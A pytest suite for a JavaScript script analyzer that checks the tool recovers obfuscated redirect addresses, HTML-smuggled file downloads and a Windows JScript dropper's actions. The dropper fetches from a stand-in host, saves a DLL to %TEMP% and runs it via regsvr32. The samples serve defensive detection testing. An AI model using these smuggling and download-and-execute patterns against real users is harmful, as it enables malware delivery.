"""What scripts put together and hand over, followed within bounds; what is not known is never printed."""

import base64
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from seriema.examine import javascript
from seriema.examine.javascript.host import Element

FILE = b"PK\x03\x04" + bytes(range(256)) * 40
CODED = base64.b64encode(FILE).decode()


def effects(*scripts, **around):
    return [(one.kind, one.value, one.content) for one in javascript.run(scripts, **around).effects]


@pytest.mark.parametrize(
    ("script", "address"),
    [
        ("location.href='ht'+'tp://a'+'.test/'", "http://a.test/"),
        ("var x=[1,0,2];var y=['b','a','c'];location=('http://'+y[x[0]]+y[x[1]]+y[x[2]])", "http://abc"),
        ("location='tset.a//:ptth'.split('').reverse().join('')", "http://a.test"),
        ("location=String.fromCharCode(104,116,116,112,58,47,47,97)", "http://a"),
        ("location=[104,116,116,112,58,47,47,97].map(c=>String.fromCharCode(c)).join('')", "http://a"),
        ("eval(unescape('location%3D%22http%3A//a.test%22'))", "http://a.test"),
        ("eval(atob('bG9jYXRpb249J2h0dHA6Ly9hLnRlc3Qn'))", "http://a.test"),
        ("var s='';for(var i=0;i<4;i++){s+='abcd'.charAt(3-i)}location='http://'+s", "http://dcba"),
        ("var s='';[111,115,115,119,61,40,40,102].forEach(c=>s+=String.fromCharCode(c^7));location=s", "http://a"),
        ("function f(a,b){return b+a}window['loc'+'ation']=f('.test','http://a')", "http://a.test"),
        ("location='hQtQtQpQ://a.test'.replace(/Q/g,'')", "http://a.test"),
        ("location=`http://${'a'+'.test'}/`", "http://a.test/"),
        ("var o={p:'http:',get(){return this.p+'//a'}};setTimeout(function(){location.assign(o.get())},9)", "http://a"),
        ("window.onload=()=>{open(decodeURIComponent('http%3A%2F%2Fa.test'))}", "http://a.test"),
        ("try{throw 1}catch(e){location='http://a.test'}", "http://a.test"),
        ("switch(2){case 1:location='http://b.test';break;case 2:location='http://a.test';break}", "http://a.test"),
        ("var n=0;do{n++}while(n<5);location='http://a'+n", "http://a5"),
        ("(function(){var [a,b]=['http','a'];let {c:d}={c:'test'};location=a+'://'+b+'.'+d})()", "http://a.test"),
        ("new Function(\"location='http://a.test'\")()", "http://a.test"),
        ("@@@ ((; ]]\nlocation='http://a.test'", "http://a.test"),
    ],
)  # fmt: skip
def test_an_address_is_put_together(script, address):
    assert ("goes", address, b"") in effects(script)


HAND_OVER = "var l=document.createElement('a');l.href=URL.createObjectURL(b);l.download='info.zip';l.click()"


BLOB = ";var b=new Blob([u]);"
TURNS = "var u=new Uint8Array(s.length);for(var i=0;i<s.length;i++)"
CODES = "c=>c.charCodeAt(0)"
LOCKED = base64.b64encode(bytes(c ^ b"key"[n % 3] for n, c in enumerate(FILE))).decode()


@pytest.mark.parametrize(
    "script",
    [
        f"var s=atob('{CODED}');{TURNS}u[i]=s.charCodeAt(i){BLOB}",
        f"const u=Uint8Array.from(atob('{CODED}'),{CODES}){BLOB}",
        f"var s=atob('{CODED}'),u=[];for(let i=0;i<s.length;++i){{u[i]=s.charCodeAt(i)}};u=new Uint8Array(u){BLOB}",
        f"u=[];h='{FILE.hex()}';for(i=0;i<h.length;i+=2)u.push(parseInt(h.substr(i,2),16));u=new Uint8Array(u){BLOB}",
        f"var u=new Uint8Array({list(FILE)}){BLOB}",
        f"var k='key',s=atob('{LOCKED}');{TURNS}{{u[i]=s.charCodeAt(i)^k.charCodeAt(i%k.length)}}{BLOB}",
        f"var s=atob('{CODED[::-1]}'.split('').reverse().join(''));{TURNS}u[i]=s.charCodeAt(i){BLOB}",
        f"var u=Uint8Array.from(atob(document.getElementById('d').innerText),{CODES}){BLOB}",
        f"var u=Uint8Array.from(atob(document.getElementById('d').dataset.x),{CODES}){BLOB}",
    ],
)
def test_a_file_is_handed_over(script):
    page = {"d": Element({"data-x": CODED}, CODED)}
    assert ("builds", "info.zip", FILE) in effects(script + HAND_OVER, elements=page)


def test_what_windows_would_do():
    script = """
    var h = new ActiveXObject('MSXML2.' + 'XMLHTTP'); h.open('GET', 'http://a.test/x', false); h.send();
    var s = WScript.CreateObject("ADODB.Stream"); s.Open(); s.Type = 1; s.Write(h.responseBody);
    var w = new ActiveXObject("WScript.Shell"); var p = w.ExpandEnvironmentStrings("%TEMP%") + "\\\\x.dll";
    s.SaveToFile(p, 2); w.Run("regsvr32 " + p, 0);
    """
    assert effects(script) == [
        ("fetches", "http://a.test/x", b""), ("stores", "%TEMP%\\x.dll", b""), ("runs", "regsvr32 %TEMP%\\x.dll", b""),
    ]  # fmt: skip


@pytest.mark.parametrize(
    "hole", ["Math.random()", "new Date().getTime()", "navigator.userAgent", "q.r.s", "prompt('x')"]
)
def test_what_is_not_known_leaves_no_address(hole):
    assert all(not value for _, value, _ in effects(f"location='http://a.test/'+{hole}+'/x'"))


def test_both_ways_are_followed_where_a_condition_is_not_known():
    found = effects("if(navigator.userAgent.indexOf('x')>0){location='http://a.test'}else{location='http://b.test'}")
    assert [value for _, value, _ in found] == ["http://a.test", "http://b.test"]


@pytest.mark.parametrize(
    "script",
    [
        "while(true){}",
        "for(;;)x+='a'",
        "function f(){f()}f()",
        "var s='aaaaaaaa';for(;;)s+=s",
        "(" * 5000,
        "a=" * 5000,
        "[" * 3000 + "]" * 3000,
        "!" * 5000 + "1",
        "'x'.repeat(1e9)",
        "new Array(1e9).join('x')",
        "new Uint8Array(1e12)",
        "x=" + "+".join(["'a'"] * 20_000),
        "f" + "(1)" * 5000,
        "if(1)" * 5000,
        "`${" * 2000,
        "var a=[];for(var i=0;i<1e9;i++)a[i]=i^3",
        "'a'.replace(/(a+)+$/,'b')",
        "2**99999**99999",
    ],
)
def test_budgets_hold(script):
    before = time.process_time()
    javascript.run([script])
    assert time.process_time() - before < 5


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(
    ["var a=", "function f(", ")", "(", "{", "}", "[", "]", "=>", ";", "'x'", "`${", "1", "+", "a", ".b", "for(", "if(",
     "new ", "return ", "/x/g", ",", "...", "?", ":", "\n", "case ", "switch(", "else ", "++", "async ", "\\", "'"]
), max_size=40))  # fmt: skip
def test_any_tokens_are_followed_without_a_crash(pieces):
    javascript.run(["".join(pieces)])
